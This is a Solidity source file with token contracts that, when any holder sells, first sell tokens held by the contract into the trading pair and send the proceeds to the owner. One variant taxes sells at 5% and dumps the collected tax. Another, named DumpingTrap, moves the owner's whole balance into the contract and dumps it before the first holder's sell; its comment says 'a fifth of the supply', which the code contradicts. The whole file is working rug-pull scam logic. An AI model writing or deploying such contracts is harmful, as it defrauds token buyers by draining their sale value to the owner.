// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {BaseToken} from "./BaseToken.sol";

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 lastUpdate);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// @dev Sells what it holds itself before it lets a seller's tokens into the pool.
abstract contract SellingToken is BaseToken {
    function _sell(address from, uint256 amount) internal virtual override {
        if (balances[address(this)] > 0) _sellOwn(balances[address(this)]);
        _give(from, pair, amount);
    }

    function _sellOwn(uint256 amount) internal {
        (uint256 reserve0, uint256 reserve1,) = IPair(pair).getReserves();
        bool isFirst = IPair(pair).token0() == address(this);
        (uint256 own, uint256 other) = isFirst ? (reserve0, reserve1) : (reserve1, reserve0);
        uint256 given = amount * 997 * other / (own * 1000 + amount * 997);
        _give(address(this), pair, amount);
        (uint256 out0, uint256 out1) = isFirst ? (uint256(0), given) : (given, uint256(0));
        IPair(pair).swap(out0, out1, owner, "");
    }
}

/// @dev As many taxed tokens: 5 % are collected, and sold with the next sell of anybody.
contract CollectingToken is SellingToken {
    function open(address pair_) external override {
        (pair, openedAt) = (pair_, block.timestamp);
        _give(owner, address(this), balances[pair_] / 500);
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 tax = to == pair ? amount / 20 : 0;
        if (to == pair) _sell(from, amount - tax);
        else _give(from, to, amount);
        if (tax > 0) _give(from, address(this), tax);
    }
}

/// @dev Without a tax: before the first sell of anybody it sells a fifth of the supply itself.
contract DumpingTrap is SellingToken {
    function open(address pair_) external override {
        (pair, openedAt) = (pair_, block.timestamp);
        _give(owner, address(this), balances[owner]);
    }
}
